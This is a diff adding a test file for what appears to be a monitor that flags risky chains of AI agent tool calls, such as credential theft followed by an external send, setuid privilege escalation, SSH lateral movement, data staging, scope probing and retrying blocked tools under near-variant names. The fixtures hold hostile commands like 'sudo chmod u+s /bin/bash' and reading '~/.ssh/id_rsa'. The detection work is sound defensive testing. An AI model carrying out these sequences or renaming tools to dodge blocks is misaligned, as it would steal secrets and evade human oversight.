@@ -1,0 +1,145 @@
+import { describe, expect, it } from 'vitest';
+import { classifyCall } from '../../../src/pipeline/behaviour/index.js';
+import { detectChain, editDistanceAtMost } from '../../../src/pipeline/chains/index.js';
+import { ev, vr } from './fixtures.js';
+
+const tagsOf = (tool: string, args: Record<string, unknown> = {}): string[] => classifyCall({ tool, args });
+const detect = (history: ReturnType<typeof ev>[], tool: string, args: Record<string, unknown> = {}, verified = [] as ReturnType<typeof vr>[]) =>
+  detectChain(history, tagsOf(tool, args), tool, verified);
+
+describe('detectChain patterns', () => {
+  it('credential_exfiltration: credential access then external send', () => {
+    const r = detect([ev('read_file', { path: '/srv/app/.env' })], 'http_post', { url: 'https://x.example', body: 'k=v' });
+    expect(r?.pattern).toBe('credential_exfiltration');
+    expect(r!.risk).toBeGreaterThanOrEqual(40);
+  });
+  it('credential_exfiltration counts blocked credential reads too', () => {
+    const r = detect([ev('get_secret', { name: 'db' }, { decision: 'block' })], 'send_email', { to: 'x@y.z', body: 'hi' });
+    expect(r?.pattern).toBe('credential_exfiltration');
+  });
+  it('privilege_escalation: enumeration then privilege change', () => {
+    const r = detect([ev('run_command', { command: 'whoami' })], 'run_command', { command: 'sudo chmod u+s /bin/bash' });
+    expect(r?.pattern).toBe('privilege_escalation');
+    expect(r!.risk).toBeGreaterThanOrEqual(40);
+  });
+  it('lateral_movement: enumeration or credential access then remote access', () => {
+    expect(detect([ev('scan_network', { cidr: '10.0.0.0/24' })], 'ssh_exec', { host: '10.0.0.7' })?.pattern).toBe('lateral_movement');
+    expect(detect([ev('read_file', { path: '~/.ssh/id_rsa' })], 'run_command', { command: 'ssh -i key root@10.0.0.7' })?.pattern)
+      .toBe('lateral_movement');
+  });
+  it('data_staging: private reads then archive', () => {
+    const r = detect([ev('list_customers'), ev('get_payment_methods')], 'create_zip_archive', { files: ['a', 'b'] });
+    expect(r?.pattern).toBe('data_staging');
+  });
+  it('data_staging: read, archive, then send', () => {
+    const r = detect([ev('read_file', { path: 'hr/salaries.xlsx' }), ev('compress_files', { out: 'x.zip' })], 'upload_file', { path: 'x.zip' });
+    expect(r?.pattern).toBe('data_staging');
+    expect(r!.risk).toBeGreaterThanOrEqual(60);
+  });
+  it('data_staging: many private reads from several tools then a send', () => {
+    const h = [ev('get_user_details'), ev('list_contacts'), ev('read_email'), ev('get_payment_methods')];
+    expect(detect(h, 'send_email', { to: 'x@y.z', body: 'data' })?.pattern).toBe('data_staging');
+  });
+  it('browse_then_exfil: tainted tool output then external send', () => {
+    const r = detect([ev('read_webpage', { url: 'https://a.example' })], 'send_email', { to: 'x@y.z', body: 'b' },
+      [vr('read_webpage', { tainted: true })]);
+    expect(r?.pattern).toBe('browse_then_exfil');
+    expect(r!.risk).toBeGreaterThanOrEqual(60);
+  });
+  it('browse_then_exfil: suspicious web content then external send', () => {
+    const r = detect([ev('fetch_url', { url: 'https://a.example' }, { families: ['prompt_override'], similarity: 0.4 })],
+      'http_post', { url: 'https://b.example', data: 'x' });
+    expect(r?.pattern).toBe('browse_then_exfil');
+  });
+  it('scope_probing: many refused tools in a short time', () => {
+    const h = [
+      ev('read_file', {}, { decision: 'block', families: ['scope_violation'] }),
+      ev('list_users', {}, { decision: 'block', families: ['scope_violation'] }),
+      ev('run_shell', {}, { decision: 'block', families: ['scope_violation'] }),
+    ];
+    const r = detect(h, 'get_secret');
+    expect(r?.pattern).toBe('scope_probing');
+    expect(r!.risk).toBeGreaterThanOrEqual(40);
+  });
+  it('scope_probing counts the current call when it is already blocked', () => {
+    const h = [ev('a_tool', {}, { decision: 'block' }), ev('b_tool', {}, { decision: 'block' })];
+    expect(detectChain(h, [], 'c_tool', [], true)?.pattern).toBe('scope_probing');
+    expect(detectChain(h, [], 'c_tool', [], false)).toBeNull();
+  });
+  it('block_bypass_retry: the same tool after a block', () => {
+    const r = detect([ev('delete_repo', { name: 'x' }, { decision: 'block' })], 'delete_repo', { name: 'x' });
+    expect(r?.pattern).toBe('block_bypass_retry');
+    expect(r!.risk).toBeGreaterThanOrEqual(40);
+  });
+  it('block_bypass_retry: a near variant after a block', () => {
+    expect(detect([ev('run_shell', {}, { decision: 'block' })], 'run_shell_v2')?.pattern).toBe('block_bypass_retry');
+    expect(detect([ev('execute_command', {}, { decision: 'block' })], 'ExecuteCommand')?.pattern).toBe('block_bypass_retry');
+    expect(detect([ev('execute_command', {}, { decision: 'block' })], 'execute_comand')?.pattern).toBe('block_bypass_retry');
+    expect(detect([ev('send_email', {}, { decision: 'block' })], 'send_mail')?.pattern).toBe('block_bypass_retry');
+    expect(detect([ev('send_email', {}, { decision: 'block' })], 'post_slack_message', { text: 'x' })?.pattern)
+      .toBe('block_bypass_retry');
+  });
+  it('returns the strongest pattern and mentions the others', () => {
+    const h = [ev('get_secret'), ev('upload_file', {}, { decision: 'block' })];
+    const r = detect(h, 'upload_file', { path: 'x' });
+    expect(r?.pattern).toBe('credential_exfiltration');
+    expect(r!.detail).toContain('block_bypass_retry');
+  });
+});
+
+describe('detectChain near-misses', () => {
+  it('never matches with an empty history', () => {
+    for (const [tool, args] of [
+      ['send_email', { to: 'a@b.c', body: 'x'.repeat(5000) }],
+      ['run_command', { command: 'sudo chmod u+s /bin/bash' }],
+      ['ssh_exec', { host: 'h' }],
+      ['create_zip_archive', {}],
+    ] as const) {
+      expect(detect([], tool, args as Record<string, unknown>)).toBeNull();
+    }
+  });
+  it('ignores ordinary sequences', () => {
+    expect(detect([ev('web_search', { q: 'flights' })], 'read_webpage', { url: 'https://a.example' })).toBeNull();
+    expect(detect([ev('read_file', { path: 'notes.md' })], 'write_file', { path: 'notes2.md', content: 'x' })).toBeNull();
+    expect(detect([ev('search_emails', { q: 'invoice' }), ev('read_email', { id: 3 })], 'send_email', { to: 'a@b.c', body: 'ok' }))
+      .toBeNull();
+    expect(detect([ev('web_search', { q: 'news' })], 'send_email', { to: 'a@b.c', body: 'summary' })).toBeNull();
+    expect(detect([ev('list_users')], 'get_user_details', { id: 1 })).toBeNull();
+    expect(detect([ev('read_file', { path: 'a.txt' })], 'create_zip_archive')).toBeNull();
+  });
+  it('does not treat an unrelated tool after a block as a retry', () => {
+    expect(detect([ev('delete_repo', {}, { decision: 'block' })], 'get_current_weather', { city: 'Oslo' })).toBeNull();
+    expect(detect([ev('get_item', {}, { decision: 'block' })], 'set_alarm')).toBeNull();
+    expect(detect([ev('get_user', {}, { decision: 'block' })], 'set_user')).toBeNull();
+  });
+  it('does not treat one or two refusals as probing', () => {
+    const h = [ev('a_tool', {}, { decision: 'block' }), ev('b_tool'), ev('c_tool'), ev('d_tool')];
+    expect(detect(h, 'e_tool')).toBeNull();
+  });
+  it('does not count old refusals far outside the probing window', () => {
+    const h = [
+      ev('a_tool', {}, { decision: 'block', at: 1 }),
+      ev('b_tool', {}, { decision: 'block', at: 2 }),
+      ev('c_tool', {}, { decision: 'block', at: 3 }),
+      ev('d_tool', {}, { at: 100_000_000 }),
+      ev('e_tool', {}, { at: 100_000_001 }),
+      ev('f_tool', {}, { at: 100_000_002 }),
+      ev('g_tool', {}, { at: 100_000_003 }),
+      ev('h_tool', {}, { at: 100_000_004 }),
+      ev('i_tool', {}, { at: 100_000_005 }),
+    ];
+    expect(detect(h, 'j_tool')).toBeNull();
+  });
+  it('does not count enumeration long before a privilege change', () => {
+    const h = [ev('whoami'), ...Array.from({ length: 12 }, (_, i) => ev(`calc_${i}`))];
+    expect(detect(h, 'grant_role', { role: 'admin' })).toBeNull();
+  });
+});
+
+describe('editDistanceAtMost', () => {
+  it('bounds the distance', () => {
+    expect(editDistanceAtMost('send_email', 'send_mail', 1)).toBe(true);
+    expect(editDistanceAtMost('send_email', 'read_email', 1)).toBe(false);
+    expect(editDistanceAtMost('abc', 'abcdef', 2)).toBe(false);
+  });
+});
